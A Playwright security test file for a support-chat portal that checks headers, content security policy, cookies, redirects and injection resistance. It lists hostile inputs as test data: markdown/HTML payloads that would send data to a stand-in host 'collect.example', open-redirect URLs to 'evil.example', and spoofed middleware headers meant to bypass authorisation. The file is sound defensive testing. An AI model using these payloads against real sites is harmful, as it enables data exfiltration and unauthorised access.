/** What every answer says to the browser, and what a hostile text cannot make it do. */
import { randomUUID } from "node:crypto";
import { type APIRequestContext, type Browser, expect, type Page, test } from "@playwright/test";
import { ChatPage } from "./pages/chat-page";
import { demo } from "./pages/sign-in-page";
import { StaffInboxPage } from "./pages/staff-inbox-page";
import { open, openSignedIn } from "./support/callers";

const everywhere = {
  "x-content-type-options": "nosniff",
  "referrer-policy": "same-origin",
  "cross-origin-opener-policy": "same-origin",
  "cross-origin-resource-policy": "same-origin",
  "permissions-policy": "camera=(), microphone=(), geolocation=(), payment=()",
  "x-frame-options": "DENY",
};
const ofApi = "default-src 'none'; frame-ancestors 'none'";

let visitor: APIRequestContext;
test.beforeAll(async ({ baseURL }) => {
  visitor = await open(baseURL ?? "");
});
test.afterAll(() => visitor.dispose());

/** Directives of a policy by name. */
function policyOf(header: string | undefined): Record<string, string> {
  const parts = (header ?? "").split(";").map((part) => part.trim().split(/\s+/));
  return Object.fromEntries(parts.map(([name = "", ...sources]) => [name, sources.join(" ")]));
}

const get = (path: string, headers: Record<string, string> = {}) =>
  visitor.get(path, { maxRedirects: 0, headers });

test.describe("headers", () => {
  const answers: [kind: string, path: string, status: number][] = [
    ["a page", "/help", 200],
    ["a page with a form", "/sign-in", 200],
    ["a redirect", "/chat", 307],
    ["a page that does not exist", "/no-such-page", 404],
    ["an answer of the API", "/api/v1/articles", 200],
    ["a refusal of the API", "/api/v1/me", 401],
    ["an address of the API that does not exist", "/api/v1/nothing", 404],
    ["the health check", "/api/health/live", 200],
    ["the sign-in token", "/api/auth/csrf", 200],
    ["a static file", "/icon.svg", 200],
  ];
  for (const [kind, path, status] of answers) {
    test(`are on ${kind} (${path}, ${status})`, async () => {
      const answer = await get(path);
      const headers = answer.headers();
      expect(answer.status()).toBe(status);
      expect(headers).toMatchObject(everywhere);
      expect(headers).not.toHaveProperty("x-powered-by");
      expect(headers).not.toHaveProperty("access-control-allow-origin");
    });
  }

  test("are on the files of the build", async () => {
    const html = await (await get("/help")).text();
    const files = [...new Set(html.match(/\/_next\/static\/[^"'\\ ]+\.(?:js|css)/g))];
    expect(files.length).toBeGreaterThan(1);
    for (const file of files) {
      const answer = await get(file);
      expect(answer.status(), file).toBe(200);
      expect(answer.headers(), file).toMatchObject(everywhere);
      expect(await answer.text()).not.toContain("sourceMappingURL=");
    }
  });

  test("let nothing load beside the answers of the API", async () => {
    for (const path of ["/api/v1/articles", "/api/v1/me", "/api/v1/nothing", "/api/health/live"])
      expect((await get(path)).headers()["content-security-policy"], path).toBe(ofApi);
  });

  test("keep what is personal out of every cache", async ({ baseURL }) => {
    const jordan = await openSignedIn(baseURL ?? "", { email: demo.jordan, password: demo.password });
    for (const path of ["/chat", "/tickets", "/account", "/api/v1/me", "/api/v1/conversations"])
      expect((await jordan.get(path)).headers()["cache-control"], path).toMatch(/no-store/);
    await jordan.dispose();
  });

  test("refuse methods that an address does not have", async () => {
    const answer = await visitor.delete("/api/v1/articles");
    expect(answer.status()).toBe(405);
  });
});

test.describe("the policy of pages", () => {
  for (const path of ["/help", "/sign-in", "/no-such-page"]) {
    test(`names a fresh nonce and allows no foreign or inline script (${path})`, async () => {
      const [one, two] = [await get(path), await get(path)];
      const policies = [one, two].map((answer) => policyOf(answer.headers()["content-security-policy"]));
      const nonces = policies.map(({ "script-src": from = "" }) => /'nonce-([^']+)'/.exec(from)?.[1] ?? "");
      expect(new Set(nonces).size).toBe(2);
      expect(Buffer.from(nonces[0] ?? "", "base64")).toHaveLength(16);
      expect(policies[0]).toEqual({
        "default-src": "'self'",
        "script-src": `'self' 'nonce-${nonces[0]}' 'strict-dynamic'`,
        "style-src": `'self' 'nonce-${nonces[0]}'`,
        "style-src-attr": "'unsafe-inline'",
        "img-src": "'self' blob: data:",
        "font-src": "'self'",
        "connect-src": "'self'",
        "media-src": "'self'",
        "frame-src": "'none'",
        "object-src": "'none'",
        "base-uri": "'none'",
        "form-action": "'self'",
        "frame-ancestors": "'none'",
      });
      const scripts = (await one.text()).match(/<script\b[^>]*>/g) ?? [];
      expect(scripts.length).toBeGreaterThan(0);
      expect(scripts.filter((script) => !script.includes(`nonce="${nonces[0]}"`))).toEqual([]);
    });
  }

  test("cannot be chosen by the request", async () => {
    const chosen = "Y2hvc2VuY2hvc2VuY2hvcw==";
    const policy = `script-src 'nonce-${chosen}'`;
    const answer = await get("/help", { "x-nonce": chosen, "content-security-policy": policy });
    expect(answer.headers()["content-security-policy"]).not.toContain(chosen);
    expect(await answer.text()).not.toContain(chosen);
  });

  const pages = {
    visitor: {
      email: null,
      paths: ["/sign-in", "/sign-up", "/help", "/help/return-an-item", "/no-such-page"],
    },
    customer: {
      email: demo.jordan,
      paths: ["/chat", "/conversations", "/tickets", "/tickets/new", "/account"],
    },
    manager: {
      email: demo.morgan,
      paths: ["/staff/inbox", "/staff/tickets", "/staff/people", "/staff/account"],
    },
  };
  for (const [who, { email, paths }] of Object.entries(pages)) {
    test(`is kept by every page of a ${who}`, async ({ browser, baseURL }) => {
      const page = await openPage(browser, baseURL ?? "", email);
      const violations = await watchPolicy(page);
      for (const path of paths) {
        await page.goto(path);
        await expect(page.getByRole("main")).toBeVisible();
        await expect(page.getByRole("heading", { level: 1 })).toBeAttached();
      }
      expect(violations()).toEqual([]);
      await page.context().close();
    });
  }
});

/** A browser that is signed in without the form. */
async function openPage(browser: Browser, baseURL: string, email: string | null): Promise<Page> {
  const api = email ? await openSignedIn(baseURL, { email, password: demo.password }) : await open(baseURL);
  const context = await browser.newContext({ storageState: await api.storageState() });
  await api.dispose();
  return context.newPage();
}

/** Collects what the browser says about the policy, by its events and on the console. */
async function watchPolicy(page: Page): Promise<() => string[]> {
  const found: string[] = [];
  await page.exposeFunction("reportViolation", (text: string) => void found.push(text));
  await page.addInitScript(() => {
    const report = (window as unknown as { reportViolation: (text: string) => void }).reportViolation;
    document.addEventListener("securitypolicyviolation", (event) =>
      report(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`),
    );
  });
  page.on("console", (message) => {
    if (/content security policy/i.test(message.text())) found.push(message.text());
  });
  return () => found;
}

test.describe("what has been a way in elsewhere", () => {
  test("the image optimizer answers 404", async () => {
    const answer = await get("/_next/image?url=%2Ficon.svg&w=64&q=75");
    expect(answer.status()).toBe(404);
    expect(answer.headers()["content-type"] ?? "").not.toMatch(/^image\//);
  });

  test("headers of the server's own do not open a door", async () => {
    const spoofed: Record<string, string>[] = [
      { "x-middleware-subrequest": "proxy:proxy:proxy:proxy:proxy" },
      { "x-middleware-subrequest": "src/middleware:src/middleware:src/middleware" },
      { "x-middleware-next": "1" },
      { "x-middleware-rewrite": "/staff/inbox" },
      { "x-matched-path": "/staff/inbox" },
      { "next-router-prefetch": "1", rsc: "1" },
      { "x-original-url": "/staff/inbox" },
    ];
    for (const headers of spoofed) {
      const page = await get("/staff/inbox", headers);
      expect(await page.text(), JSON.stringify(headers)).not.toContain("Casey Lindqvist");
      // A request for a page's data is first sent to its own address (307, no body); nothing answers it either.
      const status = (await get("/api/v1/conversations", headers)).status();
      expect([401, "rsc" in headers ? 307 : 401], JSON.stringify(headers)).toContain(status);
    }
  });

  test("a forwarded host does not make a foreign page one of ours", async ({ baseURL }) => {
    const jordan = await openSignedIn(baseURL ?? "", { email: demo.jordan, password: demo.password });
    const answer = await jordan.post("/api/v1/conversations", {
      data: {},
      headers: { origin: "https://evil.example", "x-forwarded-host": "evil.example" },
    });
    expect(answer.status()).toBe(403);
    await jordan.dispose();
  });

  test("sign-in does not lead off this portal", async ({ baseURL }) => {
    for (const callbackUrl of [
      "https://evil.example/",
      "//evil.example",
      "/\\evil.example",
      "javascript:alert(1)",
    ]) {
      const api = await open(baseURL ?? "");
      const { csrfToken } = (await (await api.get("/api/auth/csrf")).json()) as { csrfToken: string };
      const answer = await api.post("/api/auth/callback/credentials", {
        headers: { "X-Auth-Return-Redirect": "1" },
        form: { email: demo.jordan, password: demo.password, csrfToken, callbackUrl },
      });
      const { url } = (await answer.json()) as { url: string };
      expect(new URL(url).origin, callbackUrl).toBe(new URL(baseURL ?? "").origin);
      await api.dispose();
    }
  });
});

test("the session's cookie is out of reach of scripts and of other sites", async ({ browser, baseURL }) => {
  const page = await openPage(browser, baseURL ?? "", demo.jordan);
  const cookies = await page.context().cookies();
  const session = cookies.find(({ name }) => name === "baton.session");
  expect(session).toMatchObject({ httpOnly: true, sameSite: "Lax", path: "/" });
  expect(session?.value.length).toBeLessThan(2_048);
  await page.goto("/help");
  expect(await page.evaluate(() => document.cookie)).not.toContain("baton");
  await page.context().close();
});

/** Where a text would send the reader's data; never reached, because every request there is counted and cut. */
const canary = "https://collect.example";
const leaks = [
  `![pixel](${canary}/1?d=secret)`,
  `![pixel]( <${canary}/2> "title")`,
  `![ref][pixel]\n\n[pixel]: ${canary}/3`,
  `[![nested](${canary}/4)](${canary}/5)`,
  `![protocol](//collect.example/6)`,
  `![upper](HTTPS://COLLECT.EXAMPLE/7)`,
  `<img src="${canary}/8" onerror="fetch('${canary}/9')">`,
  `<img srcset="${canary}/10 1x"><picture><source srcset="${canary}/11"><img></picture>`,
  `<iframe src="${canary}/12"></iframe><object data="${canary}/13"></object><embed src="${canary}/14">`,
  `<link rel="stylesheet" href="${canary}/15"><link rel="prefetch" href="${canary}/16"><link rel="dns-prefetch" href="${canary}">`,
  `<meta http-equiv="refresh" content="0;url=${canary}/17">`,
  `<style>@import url(${canary}/18);</style><p style="background:url(${canary}/19)">x</p>`,
  `<script src="${canary}/20"></script><svg><image href="${canary}/21"/><use href="${canary}/22#a"/></svg>`,
  `<video poster="${canary}/23" src="${canary}/24" autoplay></video><audio src="${canary}/25" autoplay></audio>`,
  `<form action="${canary}/26"><input type="image" src="${canary}/27"></form><base href="${canary}/">`,
  `\`\`\`mermaid\ngraph TD; A["<img src='${canary}/28'>"]\n\`\`\``,
  `$$\\includegraphics{${canary}/29}$$`,
  `| a |\n|---|\n| ![cell](${canary}/30) |\n\n- [ ] ![task](${canary}/31)\n\n[^1]\n\n[^1]: ![note](${canary}/32)`,
  `![data](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${canary}/33"/></svg>)`,
  `[click](javascript:fetch('${canary}/34')) and <${canary}/35>`,
];

test("no text makes the browser call anywhere else, neither a customer's nor an answer", async ({
  browser,
  baseURL: given,
}) => {
  const baseURL = given ?? "";
  const account = (email: string) => ({ email, password: demo.password });
  const jordan = await openSignedIn(baseURL, account(demo.jordan));
  const sam = await openSignedIn(baseURL, account(demo.sam));
  const text = leaks.join("\n\n");
  const started = await jordan.post("/api/v1/conversations", { data: { person: true, subject: leaks[0] } });
  const { id } = (await started.json()) as { id: string };
  const asked = `Hostile question ${randomUUID()}`;
  const answered = `Hostile answer ${randomUUID()}`;
  const say = (by: APIRequestContext, what: string, said: string) =>
    by.post(`/api/v1/conversations/${id}/${what}`, {
      data: { id: randomUUID(), text: `${said}\n\n${text}` },
    });
  expect((await say(jordan, "messages", asked)).status()).toBe(202);
  expect((await say(sam, "replies", answered)).status()).toBe(201);
  expect((await say(sam, "notes", "Hostile note")).status()).toBe(201);
  const ticket = await jordan.post("/api/v1/tickets", {
    data: { conversationId: id, subject: leaks[0], description: text },
  });
  const { number } = (await ticket.json()) as { number: number };
  await Promise.all([jordan.dispose(), sam.dispose()]);

  const views = [
    { email: demo.jordan, paths: [`/chat/${id}`, "/conversations", "/tickets", `/tickets/${number}`] },
    { email: demo.sam, paths: [`/staff/inbox/${id}?view=all`, "/staff/tickets", `/staff/tickets/${number}`] },
  ];
  for (const { email, paths } of views) {
    const page = await openPage(browser, baseURL, email);
    const called: string[] = [];
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      return dialog.dismiss();
    });
    await page.context().route(
      (url) => url.origin !== new URL(baseURL).origin,
      (route) => {
        called.push(route.request().url());
        return route.abort();
      },
    );
    const violations = await watchPolicy(page);
    for (const path of paths) {
      await page.goto(path);
      await expect(page.getByRole("main")).toBeVisible();
    }
    // The texts themselves are there, or nothing was tried.
    await page.goto(paths[0] ?? "");
    const thread = email === demo.sam ? new StaffInboxPage(page).thread() : new ChatPage(page).thread();
    await expect(thread.getByText(asked)).toBeVisible();
    await expect(thread.getByText(answered)).toBeVisible();
    await expect(thread.locator("img, iframe, object, embed, video, audio, form, style, script")).toHaveCount(
      0,
    );
    await page.evaluate(() => document.fonts.ready);
    expect(called).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(violations(), "the policy had to stop what should not have been tried").toEqual([]);
    await page.context().close();
  }
});
